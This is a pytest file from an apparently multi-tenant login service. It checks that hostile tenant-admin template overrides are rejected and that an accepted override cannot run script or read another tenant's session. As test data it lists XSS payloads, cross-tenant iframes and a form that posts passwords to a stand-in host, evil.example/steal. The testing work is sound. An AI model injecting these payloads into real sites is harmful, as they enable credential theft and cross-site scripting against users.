"""A hostile tenant admin (a token with only `tenant:write`) tries to get script onto the origin
that path-based tenants share. Every construct a browser would run, or that would load or post
to another document, is refused with its line and reason (HTML5-parsed, not pattern-matched); the
most hostile override that is accepted runs no script in Chromium and cannot read another
tenant's account console."""

from __future__ import annotations

import pytest

from accounts_chromium import chromium_driver
from gatehouse_client import assert_problem, expect
from test_mail import login_page
from gatehouse_client import Browser

HEAD = "{{> _head}}\n<main>\n"
FOOT = "\n</main>{{> _foot}}"

HOSTILE = [
    ('<script nonce="{{csp_nonce}}">fetch("/t/other/account")</script>', "<script>"),
    ("<ScRiPt>alert(1)</sCrIpT>", "<script>"),
    ("<svg><script>alert(1)</script></svg>", "<script>"),
    ('<img src="x" onerror="alert(1)">', "event-handler"),
    ('<a href="jav&#x61;script:alert(1)">x</a>', "javascript:"),
    ('<a href="data:text/html,<script>alert(1)</script>">x</a>', "data:"),
    ('<base href="https://evil.example/">', "<base>"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "http-equiv"),
    ('<iframe src="/t/other/account"></iframe>', "<iframe>"),
    ('<object data="/t/other/account"></object>', "<object>"),
    ('<embed src="/t/other/account">', "<embed>"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link>"),
    ('<form action="https://evil.example/steal" method="post"><input name="password"></form>', "<form>"),
    ('<button formaction="https://evil.example/">x</button>', "formaction"),
    ("<{{tag}}>x</{{tag}}>", "tag name"),
    ('<a {{attribute}}="alert(1)">x</a>', "attribute name"),
]


@pytest.mark.parametrize("markup,reason", HOSTILE, ids=[r for _, r in HOSTILE])
def test_hostile_page_overrides_are_refused_with_line_and_reason(admin, markup, reason):
    tenant = admin.create_tenant()
    body = HEAD + "<p>before</p>\n" + markup + FOOT
    problem = assert_problem(admin.request("PUT", f"/tenants/{tenant.slug}/templates/page/login", json={"body": body}), 422)
    messages = [e["message"] for e in problem["errors"] if e["field"] == "body"]
    assert any(m.startswith("line 4:") and reason in m for m in messages), messages
    assert expect(admin.get(f"/tenants/{tenant.slug}/templates/page/login"), 200).json()["overridden"] is False


def test_hostile_email_html_is_refused(admin):
    tenant = admin.create_tenant()
    body = {"subject": "S", "text": "T", "html": '<p>Hi</p>\n<img src="x" onerror="alert(1)">'}
    problem = assert_problem(admin.request("PUT", f"/tenants/{tenant.slug}/templates/email/code", json=body), 422)
    assert any(e["field"] == "html" and e["message"].startswith("line 2:") for e in problem["errors"]), problem


# Accepted: styling, images, links out and the page's own form. It still tries everything the
# policy leaves to CSP: inline style, a CSS url() beacon, an external image.
ACCEPTED = (
    HEAD
    + '<h1 id="page-title" style="color: red">Sign in</h1>\n'
    + '<style>#page-title { background: url(/static/gatehouse.css) }</style>\n'
    + '<img src="https://evil.example/beacon.png" alt="">\n'
    + '<a href="https://evil.example/">help</a>\n'
    + '<form method="post" action="{{action}}"><input type="hidden" name="csrf" value="{{csrf}}">'
    + '<input name="email"><input name="password" type="password"><button>Go</button></form>'
    + FOOT
)


def test_accepted_override_runs_no_script_and_reads_no_other_tenant(admin, default_tenant):
    hostile = admin.create_tenant()
    expect(admin.request("PUT", f"/tenants/{hostile.slug}/templates/page/login", json={"body": ACCEPTED}), 200)
    html = login_page(hostile, Browser())
    assert "nonce" not in html and "<script" not in html.lower()
    victim = default_tenant.create_user()
    with chromium_driver() as driver:
        from test_browser import fill_login, on_account_page, wait

        driver.get(f"{default_tenant.issuer}/account")
        fill_login(driver, victim.email, victim.password)
        wait(driver).until(on_account_page(default_tenant.issuer, victim.email))
        client = hostile.create_client("public")
        from gatehouse_client import pkce_pair

        _, challenge = pkce_pair()
        driver.get(hostile.authorize_url({
            "response_type": "code", "client_id": client.client_id, "redirect_uri": client.redirect_uris[0],
            "scope": "openid", "state": "s", "code_challenge": challenge, "code_challenge_method": "S256",
        }))
        wait(driver).until(lambda d: d.find_elements("id", "page-title"))
        # The page's CSP lets nothing run: an inline script the test injects is blocked too.
        blocked = driver.execute_script(
            "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.appendChild(s);"
            "return window.ran === undefined;"
        )
        assert blocked, "an inline script ran on a tenant page"
        policy = driver.execute_script(
            "return [...document.querySelectorAll('meta')].map(m => m.httpEquiv).join(',')"
        )
        assert "content-security-policy" not in policy.lower()
        assert victim.email not in driver.page_source
